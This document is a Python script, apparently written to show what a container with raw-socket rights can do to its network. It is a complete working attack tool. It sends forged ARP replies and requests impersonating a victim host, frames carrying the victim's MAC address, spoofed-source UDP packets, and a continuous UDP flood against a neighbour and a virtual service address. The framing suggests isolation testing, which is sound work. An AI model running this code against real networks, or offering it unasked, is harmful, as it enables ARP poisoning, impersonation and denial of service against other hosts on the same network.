#!/usr/bin/env python3
"""forger.py SELF VICTIM NEIGHBOUR VIRTUAL: what a container with NET_RAW can do to its network from eth0.

SELF is its own address. Says that it is VICTIM: to NEIGHBOUR and to everybody by ARP, by frames from
VICTIM's MAC address, by packets from VICTIM's and from invented addresses; and floods NEIGHBOUR and the
service at VIRTUAL with datagrams of its own. Prints a line after the first round, goes on until its
standard input ends, then prints how many frames it sent.
"""
import errno
import itertools
import select
import socket
import struct
import sys

ROUND = 64  # datagrams to each; their ports differ from round to round
BROADCAST = b"\xff" * 6


def mac_of(address):
    """The overlays' rule."""
    return b"\x02\x42" + socket.inet_aton(address)


def arp(operation, sender_mac, sender, target):
    return (struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + sender_mac + socket.inet_aton(sender) +
            bytes(6) + socket.inet_aton(target))


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def udp(source, target, number):
    """A datagram between ports that come from `number`; UDP may go without a checksum."""
    payload = struct.pack("!HHHH", 1024 + number % 60000, 1 + number % 65535, 12, 0) + b"word"
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, socket.IPPROTO_UDP, 0)
    header += socket.inet_aton(source) + socket.inet_aton(target)
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def frames(me, victim, neighbour, virtual, number):
    """One round."""
    own, stolen, to = mac_of(me), mac_of(victim), mac_of(neighbour)
    ip, arp_type = b"\x08\x00", b"\x08\x06"
    for target in (to, BROADCAST):
        for operation in (1, 2):
            yield target + own + arp_type + arp(operation, own, victim, neighbour)
            yield target + stolen + arp_type + arp(operation, stolen, victim, neighbour)
    yield BROADCAST + own + arp_type + arp(2, own, virtual, neighbour)
    yield to + stolen + ip + udp(victim, neighbour, number)
    for i in range(number, number + ROUND):
        invented = socket.inet_ntoa(struct.pack("!I", 0x0b000000 + i * 7919 % 0x10000000))
        yield to + own + ip + udp(victim, neighbour, i)
        yield to + own + ip + udp(invented, virtual, i)
        yield to + own + ip + udp(me, neighbour, i)
        yield mac_of(virtual) + own + ip + udp(me, virtual, i)


def main(me, victim, neighbour, virtual):
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind(("eth0", 0))
    sent = 0
    for turn in itertools.count():
        for frame in frames(me, victim, neighbour, virtual, turn * ROUND):
            try:
                sent += link.send(frame) > 0
            except OSError as error:
                if error.errno != errno.ENOBUFS:
                    raise
        if turn == 0:
            print("began", flush=True)
        if select.select([sys.stdin], [], [], 0)[0]:
            break
    print(sent, flush=True)


main(*sys.argv[1:])
